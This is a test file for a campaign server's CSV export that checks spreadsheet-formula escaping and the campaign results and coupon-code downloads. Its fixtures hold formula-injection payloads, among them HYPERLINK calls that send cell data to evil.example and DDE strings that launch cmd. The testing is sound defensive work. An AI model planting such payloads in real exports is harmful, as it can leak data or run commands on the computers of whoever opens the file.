import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { buffer } from 'node:stream/consumers';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, it as plain } from 'vitest';
import type { Campaign, CampaignDefinition } from '../../server/contract/campaign.ts';
import { demoCampaigns } from '../../server/demo/campaigns.ts';
import { type Cell, csvOf, guarded, unguarded } from '../../server/http/csv.ts';
import { type Harness, it } from '../support/app.ts';
import { event } from '../support/shopper.ts';

const naughty = join(import.meta.dirname, '../../../shared/data/conformance/naughty-strings.json');

/** A file as it is sent, its mark included. */
async function written(columns: string[], rows: Cell[][]): Promise<string> {
  return (await buffer(csvOf(columns, rows))).toString();
}

/** Cells after a file was written and read, as a strict reader has them. */
async function roundTrip(rows: Cell[][]): Promise<string[][]> {
  const csv = await written(rows[0]?.map((_, index) => `column ${index}`) ?? [], rows);
  return (parse(csv, { bom: true }) as string[][]).slice(1);
}

/** Whatever stands before the sign, in the eyes of some spreadsheet, is nothing. */
const spaces = ['', ' ', '  ', '\u00a0', '\u3000', '\u200b', '\ufeff', '\u2009 ', '\v', '\f'];
const signs = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];
const formulas = [
  ...spaces.flatMap((space) => signs.map((sign) => `${space}${sign}HYPERLINK("https://evil.example?"&A1)`)),
  ...['\t', '\r', '\n', '\r\n', '\t ', '\n\n'].flatMap((control) => [`${control}=1+1`, `${control}1+1`]),
  ...['\n', '\r', '\r\n', '\u2028'].map((end) => `harmless${end}=cmd|'/C calc'!A0`),
  "=cmd|'/C calc'!A0",
  '@SUM(1+1)*cmd|0',
  '-2+3+cmd|0',
  '"=1+1"',
  '=1+1",=2+2',
  "';=1+1",
];

describe('a cell that could be a formula', () => {
  plain.each(formulas)('begins with an apostrophe on every line: %j', (text) => {
    const lines = guarded(text).split(/\r\n|\r|\n/);
    expect(guarded(text)).not.toMatch(/^[\t\r\n]/);
    for (const line of lines) expect(line).not.toMatch(/^[\s\u200b\u2060\ufeff]*[=+\-@＝＋－＠]|^\t/);
  });

  plain('is the only kind that is changed', () => {
    for (const text of ['DANGOL-7K3M', '김단골', 'a=b', '1,200', '', ' spaced', 'two\nlines', '😀', '#1']) {
      expect(guarded(text)).toBe(text);
    }
  });

  plain('comes back to the byte', () => {
    for (const text of formulas) expect(unguarded(guarded(text))).toBe(text);
    const sharp = fc.string({ unit: fc.constantFrom("'", '=', '-', ' ', '\n', '\r', '\t', 'a', '\u00a0', '"', ',') });
    fc.assert(fc.property(sharp, (text) => unguarded(guarded(text)) === text));
  });
});

describe('a file', () => {
  plain('is read as it was written, quotes, commas and line ends inside cells too', async () => {
    const rows = [...formulas, '', '"', '""', ',', ';', 'a\rb', 'a\nb', 'a\r\nb', '\u2028'].map((text) => [
      text,
      'end',
    ]);
    const back = await roundTrip(rows);
    expect(back.map(([text = '', end]) => [unguarded(text), end])).toEqual(rows);
  });

  plain('writes numbers as numbers, also below nothing, and nothing as nothing', async () => {
    expect(await written(['a', 'b', 'c'], [[-1.5, null, 0]])).toBe('\ufeff"a","b","c"\r\n-1.5,,0\r\n');
  });

  plain.skipIf(!existsSync(naughty))('holds naughty strings to the byte (skipped without the list)', async () => {
    const texts = JSON.parse(readFileSync(naughty, 'utf8')) as string[];
    const back = await roundTrip(texts.map((text) => [text]));
    expect(back.map(([text = '']) => unguarded(text))).toEqual(texts);
  });
});

const [welcome] = demoCampaigns as [CampaignDefinition];
const named: CampaignDefinition = {
  ...welcome,
  name: '=HYPERLINK("https://evil.example")',
  audience: { kind: 'all', of: [] },
  trigger: { event: 'page_view' },
  experiment: { holdoutPercent: 0, rolloutPercent: 100 },
};

/** A customer whose id is a formula is shown a coupon, and spends it. */
async function sell({ api, send, clock, site }: Harness): Promise<string> {
  const { id } = (await api('POST', `/sites/${site.id}/campaigns`, named)).json<Campaign>();
  await api('POST', `/sites/${site.id}/campaigns/${id}/state`, { state: 'live' });
  const params = { customer_id: "@SUM(1+1)*cmd|'/C calc'!A0" };
  const { decisions } = (
    await send({ events: [event(clock.now, 'identify', { params }), event(clock.now, 'page_view')] })
  ).json();
  const [{ offer, turn, coupon }] = decisions;
  await send({ events: [event(clock.now, 'offer_shown', { params: { offer, turn } })] });
  const order = { transaction_id: '+T1', value: 39_000, currency: 'KRW', coupon: coupon.code };
  await send({ events: [event(clock.now, 'purchase', { params: order })] });
  return id;
}

async function rowsOf(harness: Harness, id: string, file: string): Promise<Record<string, string>[]> {
  const answer = await harness.api('GET', `/sites/${harness.site.id}/campaigns/${id}/${file}.csv`);
  expect(answer.statusCode).toBe(200);
  expect(answer.headers['content-type']).toBe('text/csv; charset=utf-8');
  expect(answer.headers['content-disposition']).toBe(`attachment; filename="dangol-${file}-${id}.csv"`);
  return parse(answer.body, { bom: true, columns: true });
}

describe('what a campaign brought', () => {
  it('is downloaded by day and arm, in major units', async ({ harness }) => {
    const id = await sell(harness);
    const rows = await rowsOf(harness, id, 'results');
    expect(rows).toHaveLength(1);
    expect(rows[0]).toMatchObject({
      campaign: `'${named.name}`,
      day: '2026-11-21',
      arm: 'A',
      qualified: '1',
      shown: '1',
      converted: '1',
      revenue: '39000',
      confirmed: '0',
      currency: 'KRW',
    });
  });

  it('is told of its codes: who holds each, until when, and which order spent it', async ({ harness }) => {
    const id = await sell(harness);
    const [row, ...more] = await rowsOf(harness, id, 'codes');
    expect(more).toEqual([]);
    expect(row).toMatchObject({
      campaign: `'${named.name}`,
      state: 'redeemed',
      customer: "'@SUM(1+1)*cmd|'/C calc'!A0",
      issued_at: '2026-11-21 12:00',
      redeemed_at: '2026-11-21 12:00',
      order: "'+T1",
    });
  });

  it('lists every code of a large pool once, those that nobody has too', async ({ harness }) => {
    const campaigns = `/sites/${harness.site.id}/campaigns`;
    const pool = { ...welcome, coupon: { source: 'pool', label: '10 %' } };
    const { id } = (await harness.api('POST', campaigns, pool)).json<Campaign>();
    const codes = Array.from({ length: 4_001 }, (_, index) => `CODE-${index}`);
    await harness.api('POST', `${campaigns}/${id}/codes`, codes.join('\n'), { 'content-type': 'text/csv' });
    const rows = await rowsOf(harness, id, 'codes');
    expect(rows.map(({ code }) => code)).toEqual(codes);
    expect(new Set(rows.map(({ state }) => state))).toEqual(new Set(['free']));
  });

  it('is not found for a campaign that is not there, or is of another site', async ({ harness }) => {
    const id = await sell(harness);
    for (const file of ['results.csv', 'codes.csv']) {
      expect((await harness.api('GET', `/sites/${harness.site.id}/campaigns/nobody/${file}`)).statusCode).toBe(404);
      expect((await harness.api('GET', `/sites/99/campaigns/${id}/${file}`)).statusCode).toBe(404);
    }
  });
});
